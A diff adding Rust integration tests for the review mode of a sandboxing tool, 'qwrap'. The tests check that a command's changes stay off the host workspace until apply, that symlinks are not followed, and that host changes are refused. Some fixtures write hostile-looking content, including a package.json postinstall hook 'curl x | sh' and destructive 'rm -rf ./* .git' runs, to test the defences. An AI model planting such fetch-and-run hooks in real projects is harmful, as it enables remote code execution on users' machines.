@@ -1,0 +1,467 @@
+//! `run --review` and `qwrap review`: the workspace (its git dir included)
+//! byte-identical on the host until apply, whatever the command did;
+//! apply's result the same as the command's in the live mode; a link made
+//! inside never followed; a host change meanwhile refused and named; the
+//! files that choose code a host tool runs named and asked for. As root and
+//! unprivileged, on both mount APIs where the mounts differ.
+
+mod common;
+
+use common::*;
+
+const GIT: &str = "git -c user.name=t -c user.email=t@t -c init.defaultBranch=main";
+
+/// A checkout in `dir` (relative to the fixture) with two commits, an
+/// uncommitted change and an untracked file.
+fn checkout(f: &Fixture, dir: &str) {
+    let script = format!(
+        "set -e; cd '{}'
+         {GIT} init -q . && echo a > a.txt && mkdir -p sub keep && echo b > sub/b.txt && echo k > keep/k
+         printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod 755 run.sh
+         {GIT} add -A && {GIT} commit -qm one && echo c > c.txt && {GIT} add c.txt && {GIT} commit -qm two
+         echo dirty >> a.txt && echo u > untracked.txt",
+        f.path().join(dir).display()
+    );
+    ok(&f.command("sh").args(["-c", &script]).output().unwrap());
+}
+
+fn review(f: &Fixture, args: &[&str]) -> std::process::Output {
+    let mut c = f.qwrap(&["review"]);
+    c.args(args);
+    c.output().unwrap()
+}
+
+/// What a command does to a checkout: files changed, made, removed and
+/// replaced by links and directories, a mode changed, a commit (dates
+/// fixed, so that two runs make the same objects).
+const EDITS: &str = "set -e
+    echo more >> a.txt; echo new > new.txt; mkdir -p deep/er && echo d > deep/er/d.txt
+    rm -rf sub; ln -s a.txt alias; chmod 644 run.sh; rm c.txt; mkdir c.txt; echo inside > c.txt/f
+    git add -A && git -c user.name=t -c user.email=t@t commit -qm inside
+    echo later > later.txt; mkfifo pipe";
+
+const DATES: [&str; 6] = [
+    "--setenv",
+    "GIT_AUTHOR_DATE",
+    "2020-01-01T00:00:00Z",
+    "--setenv",
+    "GIT_COMMITTER_DATE",
+    "2020-01-01T00:00:00Z",
+];
+
+/// `rm -rf ./* .git`, `git reset --hard`, the reflog expired and gc'd:
+/// the host's workspace byte-identical after each, until apply; host git
+/// sees nothing meanwhile. Then apply takes it all.
+#[test]
+fn the_host_workspace_is_untouched_until_apply() {
+    for who in Who::all() {
+        for api in APIS {
+            let f = Fixture::new(who);
+            checkout(&f, "ws");
+            let before = tree(&f.ws(), &[]);
+            for script in [
+                "git reset -q --hard && git status --short",
+                "git reflog expire --all --expire=now && git gc -q --prune=now && git count-objects -v | grep -q '^count: 0'",
+                "rm -rf ./* .git && test -z \"$(ls -A)\"",
+            ] {
+                ok(&f.run_sh(api, &["--review"], script));
+                assert_eq!(tree(&f.ws(), &[]), before, "{who:?} {api}: {script}");
+            }
+            // Host git, as an editor polls it: an index it rewrites with the
+            // same entries (read-tree: the stat data zeroed, then `status`
+            // refreshes it) is no conflict at apply.
+            ok(&f.command("git").args(["read-tree", "HEAD"]).output().unwrap());
+            let st = f.command("git").args(["status", "--porcelain"]).output().unwrap();
+            assert_ne!(
+                tree(&f.ws(), &[])[".git/index"],
+                before[".git/index"],
+                "the index was not rewritten"
+            );
+            assert_eq!(stdout(&st), " M a.txt\n?? untracked.txt\n", "{who:?} {api}");
+            let list = stdout(&review(&f, &["list"]));
+            assert!(
+                list.contains("    1  ") && list.contains("    3  "),
+                "{who:?} {api}: {list}"
+            );
+            // Several pending: one must be named.
+            let o = review(&f, &["diff"]);
+            assert_eq!(o.status.code(), Some(1));
+            assert!(
+                stderr(&o).contains("3 pending layers (1, 2, 3)"),
+                "{}",
+                stderr(&o)
+            );
+            let d = ok(&review(&f, &["diff", "3", "--stat"]));
+            assert!(d.contains("  D .git/\n") && d.contains("  D a.txt\n"), "{d}");
+            ok(&review(&f, &["discard", "1"]));
+            ok(&review(&f, &["discard", "2"]));
+            // A staging change on the host since is one.
+            let index = f.ws().join(".git/index");
+            let kept = std::fs::read(&index).unwrap();
+            ok(&f
+                .command("git")
+                .args(["rm", "-q", "--cached", "c.txt"])
+                .output()
+                .unwrap());
+            let o = review(&f, &["apply", "3", "--yes"]);
+            assert!(
+                stderr(&o).contains(".git/index in it changed on the host"),
+                "{who:?} {api}: {}",
+                stderr(&o)
+            );
+            std::fs::write(&index, kept).unwrap();
+            ok(&review(&f, &["apply", "3", "--yes"]));
+            assert!(
+                listing(&f.ws()).is_empty(),
+                "{who:?} {api}: {:?}",
+                listing(&f.ws())
+            );
+            assert!(stdout(&review(&f, &["list"])).contains("no pending review layers"));
+        }
+    }
+}
+
+/// apply's result is the live mode's: the same command run live in a copy
+/// of the checkout leaves the same tree (the index aside, which holds
+/// inode numbers and times).
+#[test]
+fn apply_gives_what_the_live_mode_gives() {
+    for who in Who::all() {
+        for api in APIS {
+            let f = Fixture::new(who);
+            checkout(&f, "ws");
+            ok(&f
+                .command("cp")
+                .args(["-a", "ws", "live"])
+                .current_dir(f.path())
+                .output()
+                .unwrap());
+            let live = f.path().join("live");
+            let mut opts = vec!["--review"];
+            opts.extend(DATES);
+            ok(&f.run_sh(api, &opts, EDITS));
+            let mut c = f.qwrap(&["run", "--workspace", live.to_str().unwrap()]);
+            c.args(DATES)
+                .args(["--", "sh", "-c", EDITS])
+                .env("QWRAP_MOUNT_API", api);
+            ok(&c.output().unwrap());
+            let d = ok(&review(&f, &["diff"]));
+            for line in [
+                "  M a.txt",
+                "  A new.txt",
+                "  D sub/",
+                "  A alias -> a.txt (symlink)",
+                "  m run.sh (mode 100755 -> 100644)",
+                "  T c.txt/ (was a file)",
+                "  A pipe (FIFO)",
+                "  ref refs/heads/main: ",
+                " inside\n",
+                "+more\n",
+            ] {
+                assert!(d.contains(line), "{who:?} {api}: no {line:?} in\n{d}");
+            }
+            ok(&review(&f, &["apply", "--yes"]));
+            let skip = [".git/index"];
+            assert_eq!(tree(&f.ws(), &skip), tree(&live, &skip), "{who:?} {api}");
+            let log = f.command("git").args(["log", "--format=%s"]).output().unwrap();
+            assert_eq!(stdout(&log), "inside\ntwo\none\n");
+        }
+    }
+}
+
+/// Links the command made are written as links and never followed: one
+/// in place of a file, pointing at a file outside the workspace; one in
+/// place of a directory, pointing at a directory outside. A host directory
+/// swapped for a link before apply is refused, named, and not written
+/// through.
+#[test]
+fn apply_never_follows_a_link() {
+    for who in Who::all() {
+        let f = Fixture::new(who);
+        checkout(&f, "ws");
+        f.write("outside.txt", "keep\n", 0o666);
+        f.mkdir("outdir");
+        f.write("outdir/o", "keep\n", 0o666);
+        let outside = f.path().join("outside.txt");
+        let outdir = f.path().join("outdir");
+        let script = format!(
+            "rm a.txt && ln -s {o} a.txt && rm -rf sub && ln -s {d} sub && echo x > keep/new",
+            o = outside.display(),
+            d = outdir.display()
+        );
+        ok(&f.run_sh("new", &["--review"], &script));
+        let before = tree(f.path(), &["ws", "home"]);
+        ok(&review(&f, &["apply", "--yes"]));
+        assert_eq!(std::fs::read_link(f.ws().join("a.txt")).unwrap(), outside);
+        assert_eq!(std::fs::read_link(f.ws().join("sub")).unwrap(), outdir);
+        assert_eq!(
+            tree(f.path(), &["ws", "home"]),
+            before,
+            "{who:?}: written through a link"
+        );
+        assert_eq!(std::fs::read_to_string(f.ws().join("keep/new")).unwrap(), "x\n");
+
+        // The host swaps a directory the layer writes into for a link.
+        ok(&f.run_sh("new", &["--review"], "echo y > keep/other"));
+        std::fs::rename(f.ws().join("keep"), f.path().join("keep-moved")).unwrap();
+        std::os::unix::fs::symlink(&outdir, f.ws().join("keep")).unwrap();
+        let o = review(&f, &["apply", "--yes"]);
+        assert_eq!(o.status.code(), Some(1), "{who:?}");
+        assert!(stderr(&o).contains("keep"), "{who:?}: {}", stderr(&o));
+        assert!(
+            !outdir.join("other").exists(),
+            "{who:?}: written through the host's link"
+        );
+        assert_eq!(tree(f.path(), &["ws", "home", "keep-moved"]), before);
+    }
+}
+
+/// A file the host changed (or removed) since the run started is named and
+/// nothing is written; the host's change stays.
+#[test]
+fn a_host_change_meanwhile_is_refused_and_named() {
+    for who in Who::all() {
+        let f = Fixture::new(who);
+        checkout(&f, "ws");
+        ok(&f.run_sh(
+            "new",
+            &["--review"],
+            "echo layer >> a.txt && echo layer > c.txt && echo n > n.txt",
+        ));
+        f.write("ws/a.txt", "host\n", 0o644);
+        std::fs::remove_file(f.ws().join("c.txt")).unwrap();
+        let d = ok(&review(&f, &["diff"]));
+        assert!(
+            d.contains("a.txt: changed on the host since the run started"),
+            "{d}"
+        );
+        let o = review(&f, &["apply", "--yes"]);
+        assert_eq!(o.status.code(), Some(1), "{who:?}");
+        let e = stderr(&o);
+        assert!(
+            e.contains("  a.txt: changed on the host since the run started"),
+            "{who:?}: {e}"
+        );
+        assert!(
+            e.contains("  c.txt: removed on the host since the run started"),
+            "{who:?}: {e}"
+        );
+        assert!(!f.ws().join("n.txt").exists(), "{who:?}: applied in part");
+        assert_eq!(std::fs::read_to_string(f.ws().join("a.txt")).unwrap(), "host\n");
+        // Discarded, nothing is left of it.
+        ok(&review(&f, &["discard"]));
+        assert!(stdout(&review(&f, &["list"])).contains("no pending"));
+    }
+}
+
+/// The files that choose code a host tool runs later are named in the
+/// diff; apply asks for them, refuses where nobody can be asked, and
+/// applies with --yes.
+#[test]
+fn files_that_choose_code_are_named_and_asked_for() {
+    for who in Who::all() {
+        let f = Fixture::new(who);
+        checkout(&f, "ws");
+        f.write("ws/package.json", "{\"scripts\": {\"test\": \"true\"}}\n", 0o644);
+        let script = "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'use flake' > .envrc \
+             && printf '#!/bin/sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
+             && git config alias.st status \
+             && echo '{\"scripts\": {\"test\": \"true\", \"postinstall\": \"curl x | sh\"}}' > package.json \
+             && printf 'all:\\n\\ttrue\\n' > Makefile && echo plain > notes.txt";
+        ok(&f.run_sh("new", &["--review"], script));
+        let d = ok(&review(&f, &["diff", "--stat"]));
+        let named = d
+            .split("Files that choose code a host tool runs later:")
+            .nth(1)
+            .unwrap_or_default();
+        for p in [
+            ".vscode/tasks.json",
+            ".envrc",
+            ".git/hooks/pre-commit",
+            ".git/config",
+            "package.json  (npm runs its scripts: new or changed: postinstall)",
+            "Makefile",
+        ] {
+            assert!(named.contains(p), "{who:?}: {p} not named in\n{d}");
+        }
+        assert!(!named.contains("notes.txt"), "{d}");
+        let o = review(&f, &["apply"]);
+        assert_eq!(o.status.code(), Some(1), "{who:?}");
+        assert!(stderr(&o).contains("stdin is not a terminal"), "{}", stderr(&o));
+        assert!(!f.ws().join(".envrc").exists());
+        ok(&review(&f, &["apply", "--yes"]));
+        assert!(f.ws().join(".git/hooks/pre-commit").exists());
+        assert!(f.ws().join(".vscode/tasks.json").exists());
+    }
+}
+
+/// A linked worktree: its common dir (outside the workspace) is overlaid
+/// too: a commit inside moves no host ref until apply.
+#[test]
+fn a_linked_worktree_keeps_its_common_dir_in_the_layer() {
+    for who in Who::all() {
+        let f = Fixture::new(who);
+        f.mkdir("repo");
+        checkout(&f, "repo");
+        let script = format!(
+            "cd '{}' && {GIT} commit -qam dirty && {GIT} worktree add -q '{}' -b side",
+            f.path().join("repo").display(),
+            f.path().join("wt").display()
+        );
+        ok(&f.command("sh").args(["-c", &script]).output().unwrap());
+        let wt = f.path().join("wt");
+        let common = f.path().join("repo/.git");
+        let before = (tree(&wt, &[]), tree(&common, &[]));
+        let mut c = f.qwrap(&["run", "--review", "--workspace", wt.to_str().unwrap()]);
+        c.args([
+            "--",
+            "sh",
+            "-c",
+            "echo w >> a.txt && git -c user.name=t -c user.email=t@t commit -qam w",
+        ]);
+        ok(&c.output().unwrap());
+        assert_eq!((tree(&wt, &[]), tree(&common, &[])), before, "{who:?}");
+        let mut c = f.qwrap(&["review", "apply", "--yes", "--workspace", wt.to_str().unwrap()]);
+        ok(&c.output().unwrap());
+        let log = f
+            .command("git")
+            .args(["log", "-1", "--format=%s", "side"])
+            .current_dir(&wt)
+            .output()
+            .unwrap();
+        assert_eq!(stdout(&log), "w\n", "{who:?}");
+        let st = f
+            .command("git")
+            .args(["status", "--porcelain"])
+            .current_dir(&wt)
+            .output()
+            .unwrap();
+        assert_eq!(stdout(&st), "", "{who:?}");
+    }
+}
+
+/// overlayfs in a user namespace refuses a lower layer with mounts beneath
+/// it: run fails closed (125) and says why, leaving nothing behind.
+#[test]
+fn a_mount_beneath_the_workspace_fails_closed() {
+    if !rustix::process::geteuid().is_root() {
+        println!("SKIP: mounting on the host needs root");
+        return;
+    }
+    for who in Who::all() {
+        let f = Fixture::new(who);
+        let mnt = f.mkdir("ws/mnt");
+        let mounted = std::process::Command::new("mount")
+            .args(["-t", "tmpfs", "qwrap-test", mnt.to_str().unwrap()])
+            .status()
+            .unwrap();
+        assert!(mounted.success());
+        let o = f.run_sh("new", &["--review"], "echo x > y");
+        std::process::Command::new("umount").arg(&mnt).status().unwrap();
+        assert_eq!(o.status.code(), Some(125), "{who:?}: {}", stderr(&o));
+        let e = stderr(&o);
+        assert!(e.contains("mounts beneath it (") && e.contains("\nhint: "), "{e}");
+        assert!(!f.ws().join("y").exists());
+        assert!(stdout(&review(&f, &["list"])).contains("no pending"));
+    }
+}
+
+/// A run that changed nothing leaves no pending layer (its directories
+/// are kept idle for the next run, which reuses them: the volatile
+/// overlay's mark is gone); one that changed something is named at exit.
+#[test]
+fn a_run_that_changes_nothing_leaves_no_layer() {
+    for who in Who::all() {
+        let f = Fixture::new(who);
+        checkout(&f, "ws");
+        for _ in 0..3 {
+            let o = f.run_sh("new", &["--review"], "cat a.txt >/dev/null");
+            assert!(!stderr(ok_o(&o)).contains("review:"), "{who:?}: {}", stderr(&o));
+            assert!(stdout(&review(&f, &["list"])).contains("no pending"), "{who:?}");
+        }
+        let o = f.run_sh("legacy", &["--review"], "echo x > x.txt");
+        assert!(
+            stderr(ok_o(&o)).contains("qwrap: review: the run's changes are kept in layer 1,"),
+            "{who:?}: {}",
+            stderr(&o)
+        );
+        assert!(ok(&review(&f, &["diff", "1"])).contains("  A x.txt"), "{who:?}");
+        assert!(!f.ws().join("x.txt").exists());
+    }
+}
+
+/// The review layers stay out of every sandbox's reach, whatever the home
+/// view: absent from the listed home, hidden in the whole-home views (a
+/// pending layer holds what a run wrote in its workspace, which another
+/// workspace's command must not read).
+#[test]
+fn no_sandbox_reads_the_review_layers() {
+    for who in Who::all() {
+        for api in APIS {
+            let f = Fixture::new(who);
+            checkout(&f, "ws");
+            ok(&f.run_sh(api, &["--review"], "echo secret > planted.txt"));
+            let reviews = f.home().join(".local/state/qwrap/reviews");
+            assert!(reviews.is_dir(), "{who:?} {api}: no layer");
+            let script = format!(
+                "cat {0}/*/*/0/upper/planted.txt 2>/dev/null && echo READ; ls -A {0} 2>/dev/null | grep -q . && echo LISTED; true",
+                reviews.display()
+            );
+            for home in ["listed", "readonly", "overlay"] {
+                let out = ok(&f.run_sh(api, &["--home", home], &script));
+                assert_eq!(out, "", "{who:?} {api} --home {home}");
+            }
+        }
+    }
+}
+
+/// The output, once it succeeded.
+#[track_caller]
+fn ok_o(o: &std::process::Output) -> &std::process::Output {
+    ok(o);
+    o
+}
+
+/// inspect and the receipt say the mode; verify checks that a write in
+/// review mode stays off the host; no report leaves a layer behind.
+#[test]
+fn the_reports_say_the_mode() {
+    let f = Fixture::new(Who::User);
+    checkout(&f, "ws");
+    let text = ok(&f.qwrap(&["inspect", "--review"]).output().unwrap());
+    assert!(
+        text.contains("  workspace: applied (review (--review from --review)"),
+        "{text}"
+    );
+    assert!(text.contains("review = true  [from --review]"), "{text}");
+    let text = ok(&f.qwrap(&["inspect"]).output().unwrap());
+    assert!(text.contains("  workspace: applied (live:"), "{text}");
+    let text = stdout(&f.qwrap(&["verify", "--review"]).output().unwrap());
+    assert!(
+        text.contains("PASS a write in review mode stays off the host's workspace"),
+        "{text}"
+    );
+    let text = stdout(&f.qwrap(&["verify"]).output().unwrap());
+    assert!(
+        text.contains("SKIP a write in review mode stays off the host's workspace: live mode"),
+        "{text}"
+    );
+    let o = f
+        .qwrap(&["receipt", "--json", "--review"])
+        .env("QWRAP_REVIEW", "1")
+        .output()
+        .unwrap();
+    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
+    assert_eq!(v["workspace_mode"], "review");
+    assert!(
+        stdout(&review(&f, &["list"])).contains("no pending"),
+        "a report left a layer"
+    );
+    let o = f
+        .qwrap(&["run", "--", "true"])
+        .env("QWRAP_REVIEW", "maybe")
+        .output()
+        .unwrap();
+    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
+    assert!(stderr(&o).contains("$QWRAP_REVIEW"), "{}", stderr(&o));
+}
